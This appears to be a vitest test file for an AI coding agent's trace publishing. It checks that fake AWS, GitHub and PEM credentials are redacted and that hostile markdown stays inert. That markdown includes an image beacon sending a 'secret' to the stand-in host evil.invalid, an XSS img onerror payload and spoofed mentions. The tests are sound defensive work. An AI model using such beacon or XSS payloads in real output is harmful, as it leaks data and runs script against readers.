import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { TraceEvent } from '../../src/core/trace.ts';
import { renderPullRequestBody, TRACE_WITHHELD } from '../../src/github/pr-body.ts';
import { createTraceWriter, findSecrets, redact, renderTraceMarkdown } from '../../src/trace/index.ts';
import { activeMarkup } from '../trace/markdown-check.ts';

const usage = { promptTokens: 1, completionTokens: 1, estimated: false };
const step = (observation: string, thought = 'ok', command = 'npm test'): TraceEvent => ({
  type: 'step',
  at: 't',
  step: 1,
  thought,
  command,
  observation,
  exitCode: 0,
  timedOut: false,
  modelMs: 1,
  execMs: 1,
  usage,
});

const AKIA = 'AKIAIOSFODNN7EXAMPLE';
const GHP = `ghp_${'a1B2'.repeat(9)}`;
const GHS = `ghs_${'Zq8x'.repeat(20)}`; // new-format installation tokens are longer than 36
const PEM = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAuvWq0tKXcanary\n-----END RSA PRIVATE KEY-----';
const CONFIGURED = 'model-key-canary-0f3a9c';

describe('THREAT #19: secrets in the published trace', () => {
  it('AKIA, ghp_, long ghs_, PEM and configured values become [REDACTED] in the trace file and its Markdown', () => {
    const path = join(mkdtempSync(join(tmpdir(), 'sec-trace-')), 'trace.jsonl');
    const writer = createTraceWriter(path, { secrets: [CONFIGURED] });
    const leak = `key=${AKIA} gh=${GHP} inst=${GHS}\n${PEM}\nAuthorization: Bearer ${CONFIGURED}\n${encodeURIComponent(CONFIGURED)}`;
    writer.write(step(leak, `my key is ${CONFIGURED}`));
    const file = readFileSync(path, 'utf8');
    const md = renderTraceMarkdown(
      file
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as TraceEvent),
    );
    for (const text of [file, md]) {
      for (const s of [AKIA, GHP, GHS, 'MIIEowIBAAKCAQEAuvWq0tKXcanary', CONFIGURED])
        expect(text).not.toContain(s);
      expect(text).toMatch(/\\?\[REDACTED\\?\]/);
    }
  });

  it('the final scan finds anything redaction missed, so the caller can withhold the trace', () => {
    expect(findSecrets(`x ${GHS} y`).length).toBeGreaterThan(0);
    expect(findSecrets(`x ${CONFIGURED} y`, [CONFIGURED]).length).toBeGreaterThan(0);
    expect(findSecrets(redact(`x ${GHS} ${AKIA} ${CONFIGURED} y`, [CONFIGURED]), [CONFIGURED])).toEqual([]);
  });

  it('a PR body whose trace still holds a secret after redaction (here base64) carries no trace at all', () => {
    const base = {
      issueNumber: 1,
      summary: 'Fixed add.',
      files: [{ path: 'src/calc.js', kind: 'modified' as const, binary: false, additions: 1, deletions: 1 }],
      outcome: 'validated' as const,
      evidence: null,
      usage: { promptTokens: 1, completionTokens: 1, estimated: false, calls: 1, costUsd: 0 },
      durationMs: 1,
      steps: 1,
      attempts: 1,
      model: 'm',
      image: 'i',
      baseCommit: '0'.repeat(40),
      secrets: [CONFIGURED],
    };
    const encoded = Buffer.from(`user:${CONFIGURED}`).toString('base64');
    const leaky = renderPullRequestBody({ ...base, trace: `#### Step 1\n\nBasic auth: ${encoded}` });
    expect(leaky).toContain(TRACE_WITHHELD);
    expect(leaky).not.toContain(encoded);
    const fine = renderPullRequestBody({ ...base, trace: '#### Step 1\n\nall tests pass' });
    expect(fine).toContain('all tests pass');
    expect(fine).not.toContain(TRACE_WITHHELD);
  });

  it('each line of a configured PEM key is redacted on its own (a key leaked line by line)', () => {
    const key =
      '-----BEGIN PRIVATE KEY-----\nQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789\nZmFrZS1rZXktbGluZS10d28tZm9yLXRoZS10ZXN0cw==\n-----END PRIVATE KEY-----\n';
    const out = redact('line: QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789 end', [key]);
    expect(out).not.toContain('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789');
  });
});

describe('THREAT #20: markdown abuse in the trace', () => {
  it('image beacons, mentions, closing keywords and HTML in output stay inert in fenced, collapsed blocks', () => {
    const hostile = [
      '![x](https://evil.invalid/?d=secret)',
      '@org/team @octocat please merge',
      'Fixes #999 closes octo/other#1',
      '<img src=x onerror=alert(1)> </details> <!--',
      '```',
      '~~~~',
      '<details><summary>fake</summary>',
    ].join('\n');
    const md = renderTraceMarkdown([step(hostile, hostile, `echo '${hostile}'`)]);
    expect(md).toContain('<details>');
    expect(activeMarkup(md)).toEqual([]);
  });
});
